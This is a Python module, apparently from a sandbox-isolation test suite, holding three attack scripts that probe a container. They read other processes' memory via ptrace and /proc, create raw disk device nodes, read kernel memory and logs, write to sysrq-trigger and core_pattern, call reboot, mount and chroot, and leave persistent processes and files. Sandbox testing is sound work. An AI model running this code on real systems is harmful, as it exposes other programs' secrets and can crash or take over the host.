"""Attacks on the machine below the box: devices, other processes, tables of the kernel."""

from __future__ import annotations

from nbformat.notebooknode import NotebookNode

from trial.attacks.corpus.desk import Desk, attack, first


@attack()
def memory_of_other_processes(desk: Desk) -> NotebookNode:
    """Reads the memory and the open files of every process it sees, by `/proc` and by calls."""
    source = """
import ctypes, glob, os, re
libc = ctypes.CDLL(None, use_errno=True)
me = {os.getpid(), *map(int, os.listdir("/proc/self/task"))}
for path in glob.glob("/proc/[0-9]*"):
    pid = int(path[6:])
    if pid in me:
        continue
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("READ /proc", pid, "attached")
        libc.ptrace(17, pid, 0, 0)
    try:
        maps = open(f"{path}/maps").read()
        memory = open(f"{path}/mem", "rb")
    except OSError:
        continue
    for line in maps.splitlines():
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        try:
            memory.seek(low)
            data = memory.read(min(high - low, 1 << 24))
            for found in re.findall(rb"CANARY-[a-z]+-[0-9a-f]+", data):
                print("READ /proc", pid, found)
        except (OSError, ValueError, OverflowError):
            pass
    for handle in glob.glob(f"{path}/fd/*"):
        try:
            data = os.read(os.open(handle, os.O_RDONLY | os.O_NONBLOCK), 100)
        except OSError:
            continue
        if data:
            print("READ /proc", handle, data)
"""
    return first(desk.blank(), source)


@attack()
def devices_and_tables_of_the_kernel(desk: Desk) -> NotebookNode:
    """Makes disk devices, opens the kernel's memory and log, writes where the system is set up."""
    source = """
import ctypes, os, stat
for i, (major, minor) in enumerate(((8, 0), (1, 1), (253, 0), (259, 0), (7, 0))):
    for folder in ("/box/home", "/tmp", "/dev", "/dev/shm", "."):
        try:
            os.mknod(f"{folder}/disk{i}", stat.S_IFBLK | 0o666, os.makedev(major, minor))
            print("READ /dev", os.read(os.open(f"{folder}/disk{i}", os.O_RDONLY), 512))
        except OSError:
            pass
for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/fuse", "/dev/kvm",
             "/proc/kcore", "/proc/kmsg", "/proc/kallsyms", "/proc/keys", "/dev/console"):
    try:
        data = os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 100)
        if data and path not in ("/proc/kallsyms", "/proc/keys"):  # empty: covered up
            print("READ /dev", path, data)
    except OSError:
        pass
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
             "/sys/fs/cgroup/cgroup.procs", "/sys/power/state", "/proc/1/oom_score_adj"):
    try:
        with open(path, "w") as file:
            file.write("x")
        print("READ /proc written", path)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(10_000)
if libc.klogctl(3, buffer, 10_000) > 0:
    print("READ /dev/kmsg", buffer.value[:50])
for act in ((libc.mount, b"/proc", b"/box/home", b"proc", 0, 0), (libc.reboot, 0x0),
            (libc.sethostname, b"x", 1), (libc.chroot, b"/")):
    if act[0](*act[1:]) == 0:
        print("READ / done", act[0].__name__)
"""
    return first(desk.blank(), source)


@attack()
def left_for_whoever_comes_next(desk: Desk) -> NotebookNode:
    """Leaves files, shared memory, locks and a listening process, and looks for another's."""
    source = """
import glob, os, socket, tempfile
for folder in {"/tmp", "/var/tmp", "/dev/shm", "/box/home", "/run/lock", tempfile.gettempdir()}:
    for path in glob.glob(folder + "/left*"):
        print("LEFT-BY-ANOTHER", path)
    try:
        with open(f"{folder}/left-{os.getpid()}", "w") as file:
            file.write("x")
        os.chmod(file.name, 0o777)
    except OSError:
        pass
left = socket.socket(socket.AF_UNIX)
try:
    left.bind("\\0left")
except OSError:
    print("LEFT-BY-ANOTHER socket")
left.listen()
if os.fork() == 0:
    os.setsid()
    import time
    time.sleep(600)
    os._exit(0)
"""
    return first(desk.blank(), source)
